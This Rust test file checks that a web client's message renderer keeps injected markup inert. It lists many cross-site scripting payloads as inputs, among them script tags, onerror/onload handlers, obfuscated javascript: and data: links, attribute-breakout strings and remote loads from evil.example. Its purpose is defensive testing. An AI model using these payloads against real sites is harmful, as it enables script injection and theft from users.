//! Script injection and everything else a message might smuggle into the web client's page.

use crate::html;

/// No executable or remote-loading markup, whatever the case.
fn assert_inert(out: &str) {
    let lower = out.to_ascii_lowercase();
    for needle in ["<script", "<img", "<iframe", "<svg", "<style", "<form", "<input", "<object", "<embed", "<math"] {
        assert!(!lower.contains(needle), "{needle} in {out:?}");
    }
    // `<` in text is always escaped, so `<a href=` is a real link (crate::html also checks every href).
    for needle in ["javascript:", "vbscript:", "data:"] {
        assert!(!lower.contains(&format!("<a href=\"{needle}")), "{needle} link in {out:?}");
    }
    // Attributes (style, src, on…) are checked by verify::check_html in crate::html, which parses the tags.
}

#[test]
fn raw_html_is_shown_as_text() {
    assert_eq!(html("a <b>bold</b> claim"), "<p>a &lt;b&gt;bold&lt;/b&gt; claim</p>\n");
    assert_eq!(html("<script>alert(1)</script>"), "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n");
    assert_eq!(html("<div>\nhi\n</div>"), "<p>&lt;div&gt;<br>\nhi<br>\n&lt;/div&gt;</p>\n");
    assert_eq!(html("<!-- c -->"), "<p>&lt;!-- c --&gt;</p>\n");
}

#[test]
fn scripts_handlers_frames_forms_styles_and_svg_stay_inert() {
    for src in [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "x <img src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><circle/></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<form action=https://evil.example><input name=p></form>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<style>body{display:none}</style>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<object data=x.swf></object><embed src=x.swf>",
        "`<script>`\n\n```html\n<script>alert(1)</script>\n```",
        "> <script>alert(1)</script>\n- <img src=x onerror=alert(1)>",
        "| <script> | <img src=x> |\n|---|---|\n| a | b |",
    ] {
        let out = html(src);
        assert_inert(&out);
    }
}

#[test]
fn links_only_to_http_https_and_mailto() {
    for src in [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](JaVaScRiPt&#58;alert(1))",
        "[x](&#x6A;avascript:alert(1))",
        "[x](java&#10;script:alert(1))",
        "[x](java&#9;script:alert(1))",
        "[x](&#1;javascript:alert(1))",
        "[x]( javascript:alert(1) )",
        "[x](<javascript:alert(1)>)",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](file:///etc/passwd)",
        "[x](/relative/path)",
        "[x](//evil.example/path)",
        "<javascript:alert(1)>",
        "<JAVASCRIPT:alert(1)>",
        "<data:text/html,<script>alert(1)</script>>",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "[r]\n\n[r]: data:text/html,x",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    ] {
        let out = html(src);
        assert_inert(&out);
        assert!(!out.contains("<a"), "{src:?} became a link: {out}");
    }
}

#[test]
fn safe_links_get_rel_and_target_and_autolinks_work() {
    let rel = "target=\"_blank\" rel=\"noopener noreferrer nofollow\"";
    assert_eq!(html("<https://a.example/x>"), format!("<p><a href=\"https://a.example/x\" {rel}>https://a.example/x</a></p>\n"));
    assert_eq!(html("<bob@a.example>"), format!("<p><a href=\"mailto:bob@a.example\" {rel}>bob@a.example</a></p>\n"));
    assert_eq!(html("[r]\n\n[r]: https://a.example"), format!("<p><a href=\"https://a.example\" {rel}>r</a></p>\n"));
    assert_eq!(html("[x](HTTPS://A.example)"), format!("<p><a href=\"HTTPS://A.example\" {rel}>x</a></p>\n"));
}

#[test]
fn attribute_values_cannot_break_out() {
    // crate::html checks that the only attributes are href, title, target and rel.
    let out = html("[x](https://a.example/\"onmouseover=\"alert(1) \"t\\\" onclick=\\\"alert(1)\")");
    assert_eq!(
        out,
        "<p><a href=\"https://a.example/&quot;onmouseover=&quot;alert(1)\" title=\"t&quot; onclick=&quot;alert(1)\" \
         target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a></p>\n"
    );
    let out = html("[x](https://a.example/ \"a' onmouseover='alert(1)\")");
    assert!(out.contains("title=\"a' onmouseover='alert(1)\""), "{out}");
}

#[test]
fn images_are_links_never_loaded() {
    let out = html("![a cat](https://tracker.example/cat.png \"t\")");
    assert_inert(&out);
    assert_eq!(
        out,
        "<p><a href=\"https://tracker.example/cat.png\" title=\"t\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">🖼 a cat</a></p>\n"
    );
    // An SVG is only ever a link, never rendered inline.
    assert_inert(&html("![x](https://a.example/a.svg)"));
}

#[test]
fn entities_and_escapes_stay_text() {
    assert_eq!(html("&lt;script&gt;"), "<p>&lt;script&gt;</p>\n");
    assert_eq!(html("\\<b>x"), "<p>&lt;b&gt;x</p>\n");
    assert_eq!(html("&#0;&#x1b;"), "<p>\u{fffd}␛</p>\n");
}
